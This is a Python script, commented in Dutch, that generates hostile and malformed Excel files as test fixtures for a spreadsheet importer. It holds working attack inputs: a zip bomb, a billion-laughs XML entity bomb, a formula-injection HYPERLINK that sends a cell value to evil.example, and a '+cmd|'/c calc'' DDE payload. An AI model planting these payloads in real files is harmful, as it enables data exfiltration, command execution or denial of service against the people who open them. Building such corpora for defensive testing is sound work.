"""Maak een corpus vijandige en kapotte invulbestanden voor de importer.

Gebruik::

    python scripts/maak_vijandige_bestanden.py MAP

Elk geval is een bestand met een categorie (onbetrouwbare werkmappen, formule-injectie, validatie,
lijst; zie ``docs/onderzoek.md``) en de plaats die de melding moet noemen
(``Blad!Cel``, een tabblad, of de bestandsnaam bij problemen op zip-niveau). Verwacht gedrag voor elk
bestand: een ``InvoerFout`` met Nederlandse meldingen, geen crash, geen uitvoer, binnen seconden en met
beperkt geheugen. De tests (``tests/test_onderzoek_vijandig.py``) bouwen het corpus met
:func:`maak_corpus` in een tijdelijke map.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import io
import os
import random
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from maak_synthetische_studie import maak_opgave, schrijf_ingevuld

from kostprijs.onderzoek.sjabloon import schrijf_sjabloon

BLAD_XML = {"Aanbieder": "xl/worksheets/sheet3.xml", "Locatie 1": "xl/worksheets/sheet4.xml"}
"""Waar openpyxl de bladen opslaat (volgorde van het sjabloon)."""
MARKER = 123456.789


@dataclass(frozen=True)
class Geval:
    """Eén vijandig bestand: naam, categorie en de plaats die in een melding moet staan."""

    bestand: str
    categorie: str
    plaats: str


def _herschrijf(bron: Path, doel: Path, wijzig: Callable[[str, bytes], bytes] | None = None,
                extra: dict[str, bytes] | None = None) -> None:
    """Kopieer een zip en pas onderdelen aan of voeg ze toe."""
    with zipfile.ZipFile(bron) as zin, zipfile.ZipFile(doel, "w", zipfile.ZIP_DEFLATED) as zuit:
        for info in zin.infolist():
            data = zin.read(info)
            zuit.writestr(info.filename, wijzig(info.filename, data) if wijzig else data)
        for naam, data in (extra or {}).items():
            zuit.writestr(naam, data)


def _vervang(onderdeel: str, patroon: str, door: str) -> Callable[[str, bytes], bytes]:
    def wijzig(naam: str, data: bytes) -> bytes:
        if naam != onderdeel:
            return data
        nieuw, aantal = re.subn(patroon.encode(), door.encode(), data)
        if aantal == 0:
            raise RuntimeError(f"patroon {patroon!r} niet gevonden in {naam}")
        return nieuw
    return wijzig


BOM_DTD = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{"&lol" + str(i - 1) + ";" if i > 1 else "&lol;"}' * 10 + '">'
                     for i in range(1, 10))
           + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')


def _cel(blad: str, cel: str, waarde: Any, datatype: str | None = None) -> Callable[[Any], None]:
    def bewerk(wb: Any) -> None:
        wb[blad][cel] = waarde
        if datatype:
            wb[blad][cel].data_type = datatype
    return bewerk


def _zip_gevallen(goed: Path, map_: Path) -> list[Geval]:
    """Gevallen op bestands- en zipniveau (§2.1, §2.2, §6)."""
    gevallen = []

    def maak(naam: str, categorie: str, schrijf: Callable[[Path], None]) -> None:
        schrijf(map_ / naam)
        gevallen.append(Geval(naam, categorie, naam))

    maak("zipbom.xlsx", "zipbom", lambda p: _herschrijf(goed, p, extra={"xl/vulling.xml": b" " * (30 * 2**20)}))
    maak("xml_bom.xlsx", "XML-bom (DTD/entiteiten)",
         lambda p: _herschrijf(goed, p, _vervang(BLAD_XML["Locatie 1"], r"^.*$", BOM_DTD.replace("\\", ""))))
    maak("xml_bom_utf16.xlsx", "XML-bom in UTF-16 (langs de bytescan; defusedxml stopt hem)",
         lambda p: _herschrijf(goed, p, lambda n, d: BOM_DTD.replace('"1.0"?', '"1.0" encoding="UTF-16"?')
                               .encode("utf-16") if n == "xl/workbook.xml" else d))
    maak("macro.xlsx", "macro (vbaProject.bin)",
         lambda p: _herschrijf(goed, p, extra={"xl/vbaProject.bin": b"\0" * 64}))
    maak("macro_inhoudstype.xlsx", "macro (inhoudstype .xlsm)", lambda p: _herschrijf(
        goed, p, _vervang("[Content_Types].xml", "spreadsheetml.sheet.main",
                          "ms-excel.sheet.macroEnabled.main")))
    maak("externe_koppeling.xlsx", "externe koppeling", lambda p: _herschrijf(
        goed, p, extra={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}))
    maak("versleuteld.xlsx", "versleuteld (OLE/CFB)", lambda p: p.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1024))
    maak("oud_formaat.xlsx", ".xls vermomd als .xlsx", lambda p: p.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Workbook".encode("utf-16-le") + b"\0" * 1024))
    maak("afgekapt.xlsx", "afgekapt zip-archief",
         lambda p: p.write_bytes(goed.read_bytes()[: goed.stat().st_size * 6 // 10]))
    maak("geen_zip.xlsx", "CSV met .xlsx-extensie", lambda p: p.write_text("naam;plaatsen\nHuize;4\n"))
    maak("te_veel_onderdelen.xlsx", "te veel onderdelen", lambda p: _herschrijf(
        goed, p, extra={f"xl/leeg/{i}.txt": b"" for i in range(400)}))
    maak("te_groot.xlsx", "te groot bestand",
         lambda p: p.write_bytes(b"PK\x03\x04" + random.Random(1).randbytes(11 * 2**20)))
    maak("groot_onderdeel.xlsx", "te groot onderdeel (slecht comprimeerbaar)", lambda p: _herschrijf(
        goed, p, extra={"xl/groot.xml": base64.b64encode(random.Random(2).randbytes(4 * 2**20))}))
    maak("kapotte_xml.xlsx", "ongeldige XML in een blad", lambda p: _herschrijf(
        goed, p, lambda n, d: d[: len(d) // 2] if n == BLAD_XML["Locatie 1"] else d))
    return gevallen


def _cel_gevallen(sjabloon: Path, opgave: dict[str, Any], map_: Path) -> list[Geval]:
    """Gevallen op celniveau (§2.1, §3, §5, §6)."""
    def verberg_rij(wb: Any) -> None:
        wb["Locatie 1"].row_dimensions[29].hidden = True

    def extra_blad(wb: Any) -> None:
        wb.create_sheet("Geheim").sheet_state = "veryHidden"

    def te_veel_etmalen(wb: Any) -> None:
        wb["Locatie 1"]["C6"] = wb["Locatie 1"]["C5"].value * 365 + 1
        wb["Locatie 1"]["C7"] = None

    tabel: list[tuple[str, str, str, Callable[[Any], None]]] = [
        ("formule_met_vervalste_uitkomst.xlsx", "formule met vervalste opgeslagen uitkomst", "Locatie 1!C5",
         _cel("Locatie 1", "C5", "=2*2")),
        ("excel_foutwaarde.xlsx", "Excel-foutwaarde", "Locatie 1!C29", _cel("Locatie 1", "C29", "#DIV/0!")),
        ("nederlands_getal_als_tekst.xlsx", "gelokaliseerd getal als tekst", "Locatie 1!C34",
         _cel("Locatie 1", "C34", "€ 1.234,56")),
        ("getal_met_spaties.xlsx", "getal als tekst met spaties", "Locatie 1!C5", _cel("Locatie 1", "C5", " 4 ")),
        ("percentage_als_geheel.xlsx", "percentage als heel getal", "Locatie 1!C24", _cel("Locatie 1", "C24", 8)),
        ("lege_verplichte_cel.xlsx", "lege verplichte cel", "Locatie 1!C5", _cel("Locatie 1", "C5", None)),
        ("niet_eindig.xlsx", "niet-eindig getal (1E999)", "Locatie 1!C35", _cel("Locatie 1", "C35", MARKER)),
        ("nederlandse_booleaanse.xlsx", "Nederlandse booleaanse tekst", "Aanbieder!C8",
         _cel("Aanbieder", "C8", "WAAR")),
        ("samengevoegde_cellen.xlsx", "samengevoegde cellen", "Locatie 1!C5:D6",
         lambda wb: wb["Locatie 1"].merge_cells("C5:D6")),
        ("verborgen_rij.xlsx", "verborgen rij met invoer", "Locatie 1!C29", verberg_rij),
        ("verborgen_tabblad.xlsx", "extra zeer verborgen tabblad", "Geheim", extra_blad),
        ("grote_verouderde_dimensie.xlsx", "vervalste enorme dimensie", "Locatie 1!C5", _cel("Locatie 1", "C5", -3)),
        ("kleine_verouderde_dimensie.xlsx", "verouderde kleine dimensie (rijen erachter)", "Locatie 1!C44",
         _cel("Locatie 1", "C44", 3)),
        ("injectie_in_naam.xlsx", "formule-injectie in een naam", "Aanbieder!C4",
         _cel("Aanbieder", "C4", '=HYPERLINK("http://evil.example/?x="&C5,"Klik")', "s")),
        ("injectie_plus.xlsx", "formule-injectie met +", "Locatie 1!C4", _cel("Locatie 1", "C4", "+cmd|'/c calc'!A0")),
        ("stuurtekens_in_naam.xlsx", "richtingsteken (bidi) in een naam", "Locatie 1!C4",
         _cel("Locatie 1", "C4", "Huize \u202eNOOZ")),
        ("te_lange_naam.xlsx", "tekst van 40.000 tekens", "Aanbieder!C4", _cel("Aanbieder", "C4", "x" * 40_000)),
        ("buiten_bereik.xlsx", "negatief bedrag", "Locatie 1!C27", _cel("Locatie 1", "C27", -5000)),
        ("datum_in_getalcel.xlsx", "datum in een getalcel", "Locatie 1!C25",
         _cel("Locatie 1", "C25", dt.datetime(2025, 1, 1))),
        ("tegenstrijdig.xlsx", "samenhang: meer etmalen dan capaciteit", "Locatie 1!C6", te_veel_etmalen),
        ("ongeldige_keuze.xlsx", "keuze buiten de lijst", "Aanbieder!C7", _cel("Aanbieder", "C7", 53)),
        ("verkeerde_versie.xlsx", "ander sjabloon (versie)", "Instructie!B2",
         _cel("Instructie", "B2", "kostprijs-sjabloon-kwv v0")),
    ]
    nabewerking = {
        "formule_met_vervalste_uitkomst.xlsx": _vervang(BLAD_XML["Locatie 1"], r"<f>2\*2</f><v\s*/?>(</v>)?",
                                                        "<f>2*2</f><v>999</v>"),
        "niet_eindig.xlsx": _vervang(BLAD_XML["Locatie 1"], r"<v>123456\.789</v>", "<v>1E999</v>"),
        "grote_verouderde_dimensie.xlsx": _vervang(BLAD_XML["Locatie 1"], r'<dimension ref="[^"]*"\s*/>',
                                                   '<dimension ref="A1:XFD1048576"/>'),
        "kleine_verouderde_dimensie.xlsx": _vervang(BLAD_XML["Locatie 1"], r'<dimension ref="[^"]*"\s*/>',
                                                    '<dimension ref="A1:B2"/>'),
    }
    gevallen = []
    for naam, categorie, plaats, bewerk in tabel:
        doel = map_ / naam
        schrijf_ingevuld(sjabloon, doel, opgave, bewerk)
        if naam in nabewerking:
            tmp = doel.with_suffix(".tmp")
            _herschrijf(doel, tmp, nabewerking[naam])
            os.replace(tmp, doel)
        gevallen.append(Geval(naam, categorie, plaats))
    return gevallen


def maak_corpus(map_: Path, zaad: int = 7) -> list[Geval]:
    """Schrijf het vijandige corpus naar ``map_`` en geef de gevallen met hun verwachte plaats."""
    map_.mkdir(parents=True, exist_ok=True)
    werk = map_ / ".werk"
    werk.mkdir(exist_ok=True)
    sjabloon = schrijf_sjabloon(werk / "sjabloon.xlsx")
    opgave, _ = maak_opgave(random.Random(zaad), 0)
    goed = schrijf_ingevuld(sjabloon, werk / "goed.xlsx", opgave)
    gevallen = _zip_gevallen(goed, map_) + _cel_gevallen(sjabloon, opgave, map_)
    for p in werk.iterdir():
        p.unlink()
    werk.rmdir()
    return gevallen


def main() -> None:
    """Opdrachtregel."""
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("map", type=Path)
    a = p.parse_args()
    gevallen = maak_corpus(a.map)
    uit = io.StringIO()
    for g in gevallen:
        uit.write(f"{g.bestand:40s} {g.categorie:55s} {g.plaats}\n")
    print(uit.getvalue() + f"{len(gevallen)} bestanden geschreven in {a.map}")


if __name__ == "__main__":
    main()
